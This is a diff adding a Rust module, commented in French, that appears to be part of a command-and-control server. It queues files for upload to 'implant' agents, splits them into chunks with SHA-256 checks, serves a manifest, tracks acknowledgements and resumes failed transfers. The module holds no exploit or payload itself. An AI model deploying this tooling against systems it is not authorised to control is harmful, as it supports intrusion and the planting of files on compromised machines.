@@ -0,0 +1,370 @@
+use std::collections::HashMap;
+use std::fs::{self, File};
+use std::io::{ErrorKind, Read};
+use std::path::Path;
+use std::thread::{self, JoinHandle};
+
+use rusqlite::{Connection, OptionalExtension};
+use serde::Serialize;
+use tracing::{error, warn};
+
+use crate::db::{complete_task, connect, insert_task, write_transaction};
+use crate::error::{Error, Result};
+use crate::loot::sha256_hex;
+
+use crate::sessions::{sessions_for, Sessions};
+use crate::timefmt::now_timestamp;
+
+const CHUNK_SIZE: usize = 16 * 1024;
+
+// Transfert de fichier vers ou depuis un agent, miroir d'une ligne de la table transfers
+#[derive(Debug)]
+pub struct FileTransfer {
+    pub id: i64,
+    pub agent_id: String,
+    pub direction: String,
+    pub filename: String,
+    pub size_bytes: i64,
+    pub transferred_bytes: i64,
+    pub status: String,
+    // Renseigné au premier octet envoyé, pour l'estimation de fin
+    pub started_at: Option<String>,
+}
+
+impl FileTransfer {
+    pub fn ratio(&self) -> f64 {
+        if self.size_bytes <= 0 {
+            return if self.status == "completed" { 1.0 } else { 0.0 };
+        }
+        (self.transferred_bytes as f64 / self.size_bytes as f64).clamp(0.0, 1.0)
+    }
+}
+
+pub fn ensure_transfers_table(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute(
+        "CREATE TABLE IF NOT EXISTS transfers (
+            id INTEGER PRIMARY KEY AUTOINCREMENT,
+            agent_id TEXT NOT NULL,
+            direction TEXT NOT NULL,
+            filename TEXT NOT NULL,
+            size_bytes INTEGER NOT NULL,
+            transferred_bytes INTEGER NOT NULL DEFAULT 0,
+            status TEXT NOT NULL DEFAULT 'pending',
+            started_at TEXT
+        )",
+        [],
+    )?;
+    Ok(())
+}
+
+pub fn load_transfers(conn: &Connection) -> rusqlite::Result<Vec<FileTransfer>> {
+    let mut stmt = conn.prepare_cached(
+        "SELECT id, agent_id, direction, filename, size_bytes, transferred_bytes, status, started_at
+         FROM transfers ORDER BY id DESC"
+    )?;
+    let rows = stmt.query_map([], |row| {
+        Ok(FileTransfer {
+            id: row.get(0)?,
+            agent_id: row.get(1)?,
+            direction: row.get(2)?,
+            filename: row.get(3)?,
+            size_bytes: row.get(4)?,
+            transferred_bytes: row.get(5)?,
+            status: row.get(6)?,
+            started_at: row.get(7)?,
+        })
+    })?;
+    rows.collect()
+}
+
+// La taille est lue tout de suite : un chemin introuvable échoue ici plutôt que dans le thread
+pub fn initiate_upload(conn: &Connection, agent_id: &str, local_path: &str) -> Result<i64> {
+    let size = std::fs::metadata(local_path)?.len() as i64;
+    conn.execute(
+        "INSERT INTO transfers (agent_id, direction, filename, size_bytes, status) VALUES (?1, 'upload', ?2, ?3, 'pending')",
+        (agent_id, local_path, size),
+    )?;
+    Ok(conn.last_insert_rowid())
+}
+
+fn set_status(conn: &Connection, id: i64, status: &str) -> rusqlite::Result<()> {
+    conn.execute("UPDATE transfers SET status = ?1 WHERE id = ?2", (status, id))?;
+    Ok(())
+}
+
+// Envoie le fichier par morceaux sur la session la plus récente de l'agent, précédé d'une
+// ligne d'en-tête "UPLOAD <nom> <taille>", et met transferred_bytes à jour à chaque morceau
+fn send_file(conn: &Connection, id: i64, agent_id: &str, local_path: &str, sessions: &Sessions) -> Result<()> {
+    let session = sessions_for(sessions, agent_id).pop()
+        .ok_or_else(|| Error::Session(format!("{} n'a pas de session active", agent_id)))?;
+    let mut file = File::open(local_path)?;
+    let size = file.metadata()?.len();
+    let name = Path::new(local_path).file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
+
+    conn.execute(
+        "UPDATE transfers SET status = 'running', started_at = ?1 WHERE id = ?2",
+        (now_timestamp(), id),
+    )?;
+    let closed = |_| Error::Session(format!("session de {} fermée pendant l'envoi", agent_id));
+    session.tx.blocking_send(format!("UPLOAD {} {}\n", name, size).into_bytes()).map_err(closed)?;
+    let mut sent: i64 = 0;
+    let mut chunk = vec![0u8; CHUNK_SIZE];
+    loop {
+        let n = file.read(&mut chunk)?;
+        if n == 0 {
+            break;
+        }
+        session.tx.blocking_send(chunk[..n].to_vec()).map_err(closed)?;
+        sent += n as i64;
+        conn.execute("UPDATE transfers SET transferred_bytes = ?1 WHERE id = ?2", (sent, id))?;
+    }
+    set_status(conn, id, "completed")?;
+    Ok(())
+}
+
+// Thread d'envoi avec sa propre connexion ; l'échec est consigné dans la ligne du transfert
+pub fn spawn_upload_thread(db_path: &str, id: i64, agent_id: &str, local_path: &str, sessions: Sessions) -> JoinHandle<()> {
+    let db_path = db_path.to_string();
+    let agent_id = agent_id.to_string();
+    let local_path = local_path.to_string();
+    thread::spawn(move || {
+        let conn = match connect(&db_path) {
+            Ok(conn) => conn,
+            Err(e) => {
+                error!("transfert {} abandonné : ouverture de {} impossible : {}", id, db_path, e);
+                return;
+            }
+        };
+        if let Err(e) = send_file(&conn, id, &agent_id, &local_path, &sessions) {
+            warn!("envoi de {} à {} échoué : {}", local_path, agent_id, e);
+            if let Err(e) = set_status(&conn, id, "failed") {
+                warn!("transfert {} non marqué failed : {}", id, e);
+            }
+        }
+    })
+}
+
+// Fichier poussé vers un agent par une tâche upload <destination distante>. Le contenu
+// est copié en base en tranches dès la mise en file ; l'implant lit le manifeste sur
+// /task/<id>/upload, tire chaque tranche et l'acquitte. Après un échec, la tâche remise
+// en file reprend à la première tranche non acquittée.
+pub const UPLOAD_COMMAND: &str = "upload";
+
+pub fn ensure_task_uploads_tables(conn: &Connection) -> rusqlite::Result<()> {
+    conn.execute_batch(
+        "CREATE TABLE IF NOT EXISTS task_uploads (
+            task_id INTEGER PRIMARY KEY,
+            agent_id TEXT NOT NULL,
+            local_path TEXT NOT NULL,
+            remote_path TEXT NOT NULL,
+            size INTEGER NOT NULL,
+            sha256 TEXT NOT NULL,
+            chunk_size INTEGER NOT NULL,
+            chunks INTEGER NOT NULL,
+            acked_chunks INTEGER NOT NULL DEFAULT 0,
+            acked_bytes INTEGER NOT NULL DEFAULT 0,
+            FOREIGN KEY(agent_id) REFERENCES agents(id)
+        );
+        CREATE TABLE IF NOT EXISTS upload_chunks (
+            task_id INTEGER NOT NULL,
+            seq INTEGER NOT NULL,
+            data BLOB NOT NULL,
+            PRIMARY KEY(task_id, seq)
+        );",
+    )
+}
+
+// Taille du fichier local, ou la raison de le refuser avant toute mise en file
+pub fn check_upload(local_path: &str, max_bytes: u64) -> Result<u64> {
+    let metadata = match fs::metadata(local_path) {
+        Ok(metadata) => metadata,
+        Err(e) if e.kind() == ErrorKind::NotFound => return Err(Error::Upload(format!("{} introuvable", local_path))),
+        Err(e) => return Err(Error::Upload(format!("{} illisible : {}", local_path, e))),
+    };
+    if !metadata.is_file() {
+        return Err(Error::Upload(format!("{} n'est pas un fichier", local_path)));
+    }
+    if metadata.len() > max_bytes {
+        return Err(Error::Upload(format!(
+            "{} fait {} octets, au-delà de max_upload_bytes ({})",
+            local_path,
+            metadata.len(),
+            max_bytes,
+        )));
+    }
+    File::open(local_path).map_err(|e| Error::Upload(format!("{} illisible : {}", local_path, e)))?;
+    Ok(metadata.len())
+}
+
+// Un fichier de chunk_bytes au plus tient en une seule tranche
+pub fn enqueue_upload(
+    conn: &Connection,
+    agent_id: &str,
+    local_path: &str,
+    remote_path: &str,
+    chunk_bytes: u64,
+    max_bytes: u64,
+) -> Result<i64> {
+    check_upload(local_path, max_bytes)?;
+    let data = fs::read(local_path).map_err(|e| Error::Upload(format!("{} illisible : {}", local_path, e)))?;
+    if data.len() as u64 > max_bytes {
+        return Err(Error::Upload(format!("{} a grossi au-delà de max_upload_bytes", local_path)));
+    }
+    let chunk_size = chunk_bytes.max(1) as usize;
+    let chunks: Vec<&[u8]> = if data.is_empty() { vec![&[]] } else { data.chunks(chunk_size).collect() };
+    let tx = conn.unchecked_transaction()?;
+    let task_id = insert_task(&tx, agent_id, &format!("{} {}", UPLOAD_COMMAND, remote_path.trim()))?;
+    tx.execute(
+        "INSERT INTO task_uploads (task_id, agent_id, local_path, remote_path, size, sha256, chunk_size, chunks)
+         VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8)",
+        (task_id, agent_id, local_path, remote_path.trim(), data.len() as u64, sha256_hex(&data), chunk_size as u64, chunks.len() as u64),
+    )?;
+    for (seq, chunk) in chunks.iter().enumerate() {
+        tx.execute("INSERT INTO upload_chunks (task_id, seq, data) VALUES (?1, ?2, ?3)", (task_id, seq as u64, chunk))?;
+    }
+    tx.commit()?;
+    Ok(task_id)
+}
+
+// Ce que l'implant lit avant de tirer les tranches ; next_seq est la première non acquittée
+#[derive(Debug, Serialize)]
+pub struct UploadManifest {
+    pub task_id: i64,
+    pub remote_path: String,
+    pub size: u64,
+    pub sha256: String,
+    pub chunk_size: u64,
+    pub chunks: u64,
+    pub next_seq: u64,
+}
+
+pub fn upload_manifest(conn: &Connection, task_id: i64) -> rusqlite::Result<Option<UploadManifest>> {
+    conn.query_row(
+        "SELECT task_id, remote_path, size, sha256, chunk_size, chunks, acked_chunks FROM task_uploads WHERE task_id = ?1",
+        [task_id],
+        |row| {
+            Ok(UploadManifest {
+                task_id: row.get(0)?,
+                remote_path: row.get(1)?,
+                size: row.get(2)?,
+                sha256: row.get(3)?,
+                chunk_size: row.get(4)?,
+                chunks: row.get(5)?,
+                next_seq: row.get(6)?,
+            })
+        },
+    )
+    .optional()
+}
+
+pub fn upload_chunk(conn: &Connection, task_id: i64, seq: u64) -> rusqlite::Result<Option<Vec<u8>>> {
+    conn.query_row("SELECT data FROM upload_chunks WHERE task_id = ?1 AND seq = ?2", (task_id, seq), |row| row.get(0))
+        .optional()
+}
+
+// Acquittements dans l'ordre : un doublon est ignoré, une tranche sautée refusée. Au
+// dernier, la tâche est terminée et les tranches libérées ; renvoie vrai à ce moment.
+pub fn ack_upload_chunk(conn: &Connection, task_id: i64, seq: u64) -> Result<bool> {
+    let tx = write_transaction(conn)?;
+    let upload: Option<(u64, u64, u64, String)> = tx
+        .query_row(
+            "SELECT acked_chunks, chunks, size, remote_path FROM task_uploads WHERE task_id = ?1",
+            [task_id],
+            |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?, row.get(3)?)),
+        )
+        .optional()?;
+    let Some((acked, chunks, size, remote_path)) = upload else {
+        return Err(Error::TaskNotFound(task_id));
+    };
+    if seq < acked {
+        return Ok(false);
+    }
+    if seq > acked {
+        return Err(Error::Upload(format!("tranche {} acquittée avant la tranche {}", seq, acked)));
+    }
+    let len: Option<u64> = tx
+        .query_row("SELECT length(data) FROM upload_chunks WHERE task_id = ?1 AND seq = ?2", (task_id, seq), |row| row.get(0))
+        .optional()?;
+    let Some(len) = len else {
+        return Err(Error::Upload(format!("tranche {} inconnue", seq)));
+    };
+    tx.execute(
+        "UPDATE task_uploads SET acked_chunks = acked_chunks + 1, acked_bytes = acked_bytes + ?1 WHERE task_id = ?2",
+        (len, task_id),
+    )?;
+    let complete = seq + 1 == chunks;
+    if complete {
+        tx.execute("DELETE FROM upload_chunks WHERE task_id = ?1", [task_id])?;
+        complete_task(&tx, task_id, &format!("{} octets envoyés vers {}", size, remote_path), false)?;
+    }
+    tx.commit()?;
+    Ok(complete)
+}
+
+// Octets acquittés et taille totale des envois de l'agent, par tâche
+pub fn upload_progress(conn: &Connection, agent_id: &str) -> rusqlite::Result<HashMap<i64, (u64, u64)>> {
+    let mut stmt = conn.prepare_cached("SELECT task_id, acked_bytes, size FROM task_uploads WHERE agent_id = ?1")?;
+    let rows = stmt.query_map([agent_id], |row| Ok((row.get(0)?, (row.get(1)?, row.get(2)?))))?;
+    rows.collect()
+}
+
+// Une tâche upload en échec repart en file ; l'implant reprend au manifeste, donc à la
+// première tranche non acquittée
+pub fn resume_upload(conn: &Connection, task_id: i64) -> Result<()> {
+    let found: Option<(String, u64, u64)> = conn
+        .query_row(
+            "SELECT t.status, u.acked_chunks, u.chunks FROM task_uploads u JOIN tasks t ON t.id = u.task_id
+             WHERE u.task_id = ?1",
+            [task_id],
+            |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)),
+        )
+        .optional()?;
+    let Some((status, acked, chunks)) = found else {
+        return Err(Error::Upload(format!("la tâche {} n'est pas un envoi", task_id)));
+    };
+    if status != "failed" || acked >= chunks {
+        return Err(Error::Upload(format!("la tâche {} n'est pas un envoi interrompu", task_id)));
+    }
+    conn.execute("UPDATE tasks SET status = 'pending', output = NULL WHERE id = ?1", [task_id])?;
+    Ok(())
+}
+
+pub fn remove_all_uploads(conn: &Connection, agent_id: &str) -> rusqlite::Result<()> {
+    conn.execute(
+        "DELETE FROM upload_chunks WHERE task_id IN (SELECT task_id FROM task_uploads WHERE agent_id = ?1)",
+        [agent_id],
+    )?;
+    conn.execute("DELETE FROM task_uploads WHERE agent_id = ?1", [agent_id])?;
+    Ok(())
+}
+
+// Complète le dernier composant du chemin : le nom entier s'il est seul à correspondre
+// (suivi de / pour un répertoire), sinon le préfixe commun des candidats
+pub fn complete_path(text: &str) -> String {
+    let (dir, prefix) = match text.rfind('/') {
+        Some(at) => (&text[..=at], &text[at + 1..]),
+        None => ("", text),
+    };
+    let Ok(entries) = fs::read_dir(if dir.is_empty() { "." } else { dir }) else {
+        return text.to_string();
+    };
+    let mut matches: Vec<(String, bool)> = entries
+        .flatten()
+        .filter_map(|entry| {
+            let name = entry.file_name().to_string_lossy().into_owned();
+            let is_dir = entry.file_type().is_ok_and(|t| t.is_dir());
+            (name.starts_with(prefix) && (prefix.starts_with('.') || !name.starts_with('.'))).then_some((name, is_dir))
+        })
+        .collect();
+    matches.sort();
+    match matches.as_slice() {
+        [] => text.to_string(),
+        [(name, is_dir)] => format!("{}{}{}", dir, name, if *is_dir { "/" } else { "" }),
+        [(first, _), rest @ ..] => {
+            let common = rest.iter().fold(first.clone(), |common, (name, _)| {
+                common.chars().zip(name.chars()).take_while(|(a, b)| a == b).map(|(a, _)| a).collect()
+            });
+            format!("{}{}", dir, common)
+        }
+    }
+}